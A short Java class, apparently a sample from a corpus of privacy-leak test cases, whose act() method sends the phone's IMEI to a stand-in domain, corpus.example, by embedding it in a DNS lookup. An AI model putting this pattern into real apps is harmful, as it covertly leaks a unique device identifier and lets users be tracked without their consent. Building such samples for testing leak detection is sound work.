package org.corpus;

import java.net.InetAddress;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Asks for a name that only this phone asks for. */
public class DnsLabel extends Screen {
    @Override
    protected void act() throws Exception {
        InetAddress.getAllByName(Owner.imei(this) + ".n.corpus.example");
    }
}
